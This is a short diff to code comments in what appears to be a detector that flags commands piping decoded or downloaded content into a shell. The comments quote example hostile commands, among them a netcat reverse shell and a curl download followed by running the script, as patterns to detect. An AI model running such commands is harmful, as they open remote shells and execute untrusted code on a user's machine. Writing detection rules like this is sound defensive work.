@@ -261,7 +261,9 @@ const maxSteps = 4
 // "echo … | base64 -d | sh", "nc host 4444 | /bin/sh"); or its output
 // goes to another machine ("/bin/sh -i 2>&1 | nc host 4444"); or its
 // script is a file a download saved a few commands before ("curl -o
-// x.sh https://…/x.sh && bash x.sh"). Not when one of own, its options
+// x.sh https://…/x.sh && bash x.sh"), where prose may lead into the run
+// if the script is one by its extension ("…, then run bash x.sh"). Not
+// when one of own, its options
 // for code of its own ("-c" of a shell, "-m" of Python, "-e" of Perl), or
 // a script file as its first argument tells it to run something else
 // ("| python3 -m json.tool", "| perl -ne …", "| python3 parse.py"; "|
